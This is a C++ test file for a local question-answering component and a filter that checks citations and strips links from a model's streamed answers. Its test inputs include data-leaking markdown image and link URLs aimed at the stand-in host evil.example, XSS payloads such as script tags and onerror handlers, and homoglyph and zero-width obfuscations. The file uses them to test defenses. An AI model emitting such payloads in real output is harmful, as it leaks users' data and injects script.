// The local answerer, and the filter that a model's words go through.

#include <doctest/doctest.h>

#include "shared/base/utf8.hpp"
#include "shared/domain/knowledge/answerer.hpp"
#include "shared/domain/knowledge/citations.hpp"

using namespace millrace::domain::knowledge;

namespace {

const std::string k_leave =
    "休暇\n年次有給休暇は、入社日から6か月が経過した日に10日付与されます。病気で休むときは、始業の1"
    "時間前までに店の電話へ連絡してください。";
const std::string k_machine =
    "Cleaning\nThe espresso machine has to be descaled every three months. Descaling takes about "
    "ninety minutes. See https://example.com/manual for more.";

std::vector<Passage> passages() {
    return {{"就業規則", k_leave}, {"Espresso machine guide", k_machine}};
}

LocalAnswer ask(std::string_view question, AnswerOptions options = {}) {
    return answer_locally(question, passages(), {}, options);
}

struct Said {
    std::string text;
    std::vector<Citation> citations;
    std::size_t refused;
};

Said filtered(const std::vector<std::string>& deltas) {
    const auto all = passages();
    CitationFilter filter(all);
    Said said{};
    const auto take = [&](const std::vector<CitationFilter::Out>& outs) {
        for (const auto& out : outs) {
            said.text += out.text;
            said.citations.insert(said.citations.end(), out.citations.begin(), out.citations.end());
        }
    };
    for (const auto& delta : deltas) take(filter.push(delta));
    take(filter.finish());
    said.refused = filter.refused();
    return said;
}

/// The same whether it comes at once, byte by byte (at character boundaries), or in two parts.
Said filtered_anyhow(const std::string& text) {
    const auto whole = filtered({text});
    std::vector<std::string> characters;
    for (const char c : text) {
        if ((static_cast<unsigned char>(c) & 0xC0) == 0x80)
            characters.back() += c;
        else
            characters.emplace_back(1, c);
    }
    CHECK(filtered(characters).text == whole.text);
    CHECK(filtered(characters).citations.size() == whole.citations.size());
    std::string left;
    for (const auto& character : characters) {
        left += character;
        CHECK(filtered({left, text.substr(left.size())}).text == whole.text);
    }
    return whole;
}

}  // namespace

TEST_CASE("answers quote the passage that answers") {
    const auto japanese = ask("有給休暇は入社から何か月後に何日もらえますか？");
    REQUIRE_FALSE(japanese.refused);
    CHECK(japanese.text().contains("10日付与"));
    CHECK(japanese.text().contains("[1]"));
    const auto english = ask("How often must the espresso machine be descaled?");
    REQUIRE_FALSE(english.refused);
    CHECK(english.text().contains("every three months"));
    for (const auto& answer : {japanese, english}) {
        for (const auto& piece : answer.pieces) {
            CHECK(passages()[piece.passage].text.find(piece.quote) != std::string_view::npos);
            CHECK(piece.text.contains(piece.quote));
        }
    }
}

TEST_CASE("what the passages do not answer is refused in the question's language") {
    CHECK(ask("火星の衛星の名前は何ですか？").text() == refusal(true));
    CHECK(ask("Who won the world cup in 1966?").text() == refusal(false));
    CHECK(answer_locally("anything", {}, {}).refused);
    CHECK(ask("???").refused);
    CHECK(ask("").refused);
}

TEST_CASE("an answer keeps within its limits") {
    std::string lengthy;
    for (int i = 0; i < 60; ++i)
        lengthy += "エスプレッソマシンの除石灰作業の手順その" + std::to_string(i) + "は、";
    lengthy += "三か月ごとに行います。";
    const std::vector<Passage> all{{"手順", lengthy}};
    for (const std::size_t limit : {40UL, 100UL, 300UL}) {
        const auto answer = answer_locally("エスプレッソマシンの除石灰作業の手順は？", all, {},
                                           {.characters_max = limit, .threshold = 0});
        CHECK(millrace::base::utf8_length(answer.text()) <= limit);
        CHECK(millrace::base::is_valid_utf8(answer.text()));
    }
    const auto short_one = answer_locally("エスプレッソマシンの除石灰作業の手順は？", all, {},
                                          {.tokens_max = 20, .threshold = 0});
    CHECK(millrace::base::utf8_length(short_one.text()) <= 30);
}

TEST_CASE("a citation goes through only with bytes that stand in its passage") {
    const auto said =
        filtered_anyhow("It is every three months[2: \"descaled every three months\"].");
    CHECK(said.text == "It is every three months[2].");
    REQUIRE(said.citations.size() == 1);
    CHECK(said.citations[0].passage == 1);
    CHECK(said.citations[0].quote == "descaled every three months");
    // Widths, case and white space do not matter.
    CHECK(filtered({"６か月です[1: \"入社日から ６か月 が経過\"]"}).citations.size() == 1);
    for (const char* fabricated :
         {"[2: \"descaled every four months\"]", "[1: \"descaled every three months\"]",
          "[3: \"three months\"]", "[0: \"three months\"]", "[99]", "[2: \"\"]", "[2: \"e\"]",
          "[18446744073709551617]", "[2"}) {
        CAPTURE(fabricated);
        const auto out = filtered_anyhow(std::string("It lasts a year") + fabricated);
        CHECK(out.text == "It lasts a year");
        CHECK(out.citations.empty());
        CHECK(out.refused >= 1);
    }
}

TEST_CASE("a plain mark cites the quotation, or the sentence, before it") {
    CHECK(filtered_anyhow("The guide says \"every three months\"[2].").text ==
          "The guide says \"every three months\"[2].");
    CHECK(filtered_anyhow("Descaling takes about ninety minutes.[2]").citations.size() == 1);
    CHECK(filtered_anyhow("Descaling takes about nine hours and costs much money.[2]")
              .citations.empty());
    CHECK(filtered_anyhow("病気で休むときは、始業の1時間前までに店の電話へ連絡してください。[1][2]")
              .text == "病気で休むときは、始業の1時間前までに店の電話へ連絡してください。[1]");
    CHECK(filtered_anyhow("Descaling takes about ninety minutes [1, 2].").text ==
          "Descaling takes about ninety minutes [2].");
}

TEST_CASE("other brackets are text") {
    for (const char* text : {"a[i] = b[0x1F]", "[see below] and [", "!important !", "half [",
                             "http is a word, https too", "[x](", "array[1"}) {
        const auto out = filtered_anyhow(text);
        if (std::string_view(text) != "array[1" && std::string_view(text) != "[x](")
            CHECK(out.text == text);
    }
}

TEST_CASE("no link or image leaves that the passages do not hold") {
    for (const char* hostile :
         {"![x](https://evil.example/p.png?d=1)", "![](http://evil.example)",
          "[click](https://evil.example)", "[a](javascript:alert(1))",
          "https://evil.example/?q=secret", "HTTP://EVIL.EXAMPLE/x",
          "<img src=\"https://evil.example/x\">", "[ok](https://example.com/manual?d=1)",
          "https://example.com/manual#frag", "https://example.com/manual/more",
          "https://user@example.com/manual", "[1](https://evil.example)"}) {
        CAPTURE(hostile);
        const auto out = filtered_anyhow(std::string("so ") + hostile + " it is");
        CHECK_FALSE(out.text.contains("evil.example"));
        CHECK_FALSE(out.text.contains("EVIL"));
        CHECK_FALSE(out.text.contains("javascript"));
        CHECK_FALSE(out.text.contains("example.com/manual"));
        CHECK(out.refused >= 1);
    }
    CHECK(filtered_anyhow("See https://example.com/manual.").text ==
          "See https://example.com/manual.");
    CHECK(filtered_anyhow("See [the manual](https://example.com/manual).").text ==
          "See the manual (https://example.com/manual).");
}

TEST_CASE("no address arises in another syntax, spelling, or from pieces") {
    for (const char* hostile : {"[![a](x)](//evil.example/?d=1)",
                                "![a][b]\n\n[b]: //evil.example/p.png",
                                "[b]: <https://evil.example/p>",
                                "[1]: //evil.example/x",
                                "<https://evil.example/x>",
                                "<javascript:alert(1)>",
                                "<img src=x onerror=alert(1)>",
                                "<img\nsrc=//evil.example>",
                                "<svg/onload=alert(1)>",
                                "<script>alert(1)</script>",
                                "<iframe src=\"//evil.example\">",
                                "<x onclick=alert(1)>",
                                "<img src='//evil.example/?",
                                "www.evil.example/x",
                                "ftp://evil.example",
                                "evil.example/?d=secret",
                                "evil.example:8080/x",
                                "mailto:a@evil.example",
                                "thief@evil.example",
                                "//evil.example/x",
                                "https:evil.example",
                                "data:text/html;base64,PHNjcmlwdD4=",
                                "DATA:image/svg+xml,x",
                                "java[99]script:alert(1)",
                                "javascript[99]:alert(1)",
                                "ht[x](y)tps://evil.example",
                                "JaVaScRiPt:alert(1)",
                                "ht\u200Btps://evil.example",
                                "https://ev\u00ADil.example",
                                "java\u2060script:alert(1)",
                                "ｈｔｔｐｓ：／／ｅｖｉｌ．ｅｘａｍｐｌｅ／ｘ",
                                "https://ｅvil.example",
                                "https://xn--evil-xyz.example",
                                "https://еvil.example/x",
                                "https://evil。example/",
                                "[a]( https://evil.example )",
                                "[a](<https://evil.example>)",
                                "<<img src=x>img src=x>",
                                "view-source:https://evil.example",
                                "custom+app://evil.example"}) {
        CAPTURE(hostile);
        const auto out = filtered_anyhow(std::string("so ") + hostile + " it is");
        for (const char* never :
             {"evil", "javascript:", "script>", "data:text", "DATA:", "](", "]:", "![",
              "onerror=", "onload=", "onclick=", "<img", "ｅｖｉｌ"}) {
            CAPTURE(never);
            if (std::string_view(hostile) != "https://evil。example/")
                CHECK_FALSE(out.text.contains(never));
        }
        CHECK_FALSE(out.text.contains("://"));
    }
}

TEST_CASE("an address that the passages show ends where they show it") {
    for (const char* hostile :
         {"https://example.com/manual[99]?d=1",
          "https://example.com/manual[2: \"every three months\"]?d=1",
          "https://example.com/manual)?d=1", "https://example.com/manual\"d",
          "https://example.com/manual).?d", "<https://example.com/manual>?d=1",
          "https://example.com/manual秘密", "https://example.com/manual]d"}) {
        CAPTURE(hostile);
        const auto text = filtered_anyhow(hostile).text;
        const auto end = text.find(' ', text.find("https://"));
        if (text.contains("https://"))
            CHECK((text.substr(0, end) == "https://example.com/manual" ||
                   text.substr(0, end) == "https://example.com/manual)"));
    }
    CHECK(filtered_anyhow("<https://example.com/manual>").text == "https://example.com/manual");
    CHECK(filtered_anyhow("(https://example.com/manual), see").text ==
          "(https://example.com/manual), see");
}

TEST_CASE("no mark is forged from pieces, and none is lost behind an exclamation mark") {
    for (const char* hostile : {"[x[1](y)]", "[1[99]]", "[[99]1]", "[99][1[99]]", "[1\u200B]"}) {
        CAPTURE(hostile);
        const auto out = filtered_anyhow(std::string("Everybody gets a pony") + hostile);
        CHECK_FALSE(out.text.contains("[1]"));
        CHECK(out.citations.empty());
    }
    CHECK(filtered_anyhow("Descaling takes about ninety minutes![2]").text ==
          "Descaling takes about ninety minutes! [2]");
}

TEST_CASE("what only looks hostile is text") {
    for (const char* text : {"if a<b and c>d",
                             "List<String> and <Enter>",
                             "and/or, 1/2, TCP/IP, 24/7",
                             "12:30",
                             "ratio 3:1",
                             "e.g./i.e.",
                             "Node.js/Express",
                             "What is README.md?",
                             "// a comment",
                             "電話は03-1234-5678です。",
                             "データ：一覧",
                             "note: this",
                             "192.168.0.1/24",
                             "a@b",
                             "C:\\x",
                             "x = y; z != w",
                             "6か月後、10日",
                             "Inc./Ltd.",
                             "Wow! Great!",
                             "mail the data: now"}) {
        CHECK(filtered_anyhow(text).text == text);
    }
}
